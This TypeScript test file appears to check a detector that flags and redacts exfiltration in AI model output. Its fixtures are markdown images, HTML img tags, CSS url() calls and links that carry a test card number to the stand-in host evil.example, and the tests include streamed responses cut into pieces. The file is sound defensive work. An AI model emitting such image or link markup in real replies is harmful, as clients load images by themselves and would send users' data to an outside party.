/** Values that would leave through an address are a finding of their own. */
import t from 'tap'
import { edited, redaction, run } from './parts.ts'
import { openDialect, pieces, saidBy } from './said.ts'
import { dialects } from './streams.ts'
import { redactAll, streamThrough } from './streaming.ts'

const card = '4111111111111111'

async function labelsOf (text: string): Promise<string[]> {
  const { inputs } = await run({ texts: [text] })
  const { classification } = inputs.at(-1) as { readonly classification: { readonly labels: object } }
  return Object.keys(classification.labels).filter(label => label.startsWith('exfiltration.'))
}

const images = [`![x](https://evil.example/?q=${card})`, `![${card}](//evil.example/a-${card})`, `<img src="https://evil.example/${card}">`, `<img width=1 src='//evil.example/${card}'>`, `background: url(https://evil.example/${card})`, `[1]: https://evil.example/${card}`]
const links = [`https://evil.example/?q=${card}`, `[here](https://evil.example/${card})`, `[here]( <https://evil.example/a ${card}>)`, `www.evil.example/${card}`, `evil.example/${card}`, `<a href="/x?q=${card}">`, `https://${card}.evil.example/`]
const neither = [`the card ${card} is mine`, 'mailto:jane.roe@example.com', `"https://fine.example" ${card}`, `see (https://fine.example) and ${card}`]

t.test('in an image, which clients load by themselves', async t => {
  for (const text of images) t.strictSame(await labelsOf(`see ${text}`.replace(/^see (?=\[1\])/, '')), ['exfiltration.image'], text)
})

t.test('in a link', async t => {
  for (const text of links) t.strictSame(await labelsOf(`see ${text}`), ['exfiltration.link'], text)
})

t.test('and not beside one', async t => {
  for (const text of neither) t.strictSame(await labelsOf(text), [], text)
})

t.test('an address of a network is the host of a link, and no way out by itself', async t => {
  const scan = (text: string): Array<{ label: string, detector: string, confidence: number, start: number, end: number }> => {
    const start = text.indexOf('203.0.113.7')
    return start === -1 ? [] : [{ label: 'pii.ip_address', detector: 'test', confidence: 900, start, end: start + 11 }]
  }
  const asked = async (text: string): Promise<string> => JSON.stringify((await run({ texts: [text], scan })).inputs.at(-1))
  t.notMatch(await asked('http://203.0.113.7/status'), /exfiltration/)
  t.match(await asked('https://evil.example/?from=203.0.113.7'), /exfiltration/)
})

t.test('a policy can take out what leaves, and nothing else', async t => {
  const text = `I know ${card}. ![x](https://evil.example/?q=${card})`
  t.equal(edited(text, await run({ texts: [text], judgement: redaction('remove', 'exfiltration.*') })), `I know ${card}. ![x](https://evil.example/?q=)`)
})

for (const dialect of dialects) {
  t.test(`in a stream of ${dialect.protocol.name}, however it is cut`, async t => {
    const text = `I know. ![x](https://evil.example/?q=${card}&r=1) and https://evil.example/${card} too`
    for (let size = 1; size < 40; size += 3) {
      const cuts = Array.from({ length: 40 }, (_, index) => index * size)
      const body = dialect.build({ reasoning: [], text: pieces(text, cuts), call: [], order: [] }, '\n')
      const streamed = await streamThrough({ stream: openDialect(dialect), pieces: [body], judge: redactAll })
      t.notMatch(String(saidBy(dialect, streamed.bytes)), card)
      const { classification } = streamed.inputs.at(-1) as { readonly classification: { readonly labels: Record<string, { readonly count: number }> } }
      t.match(classification.labels, { 'exfiltration.image': { count: 1 }, 'exfiltration.link': { count: 1 } }, `${size} units a piece`)
    }
  })
}
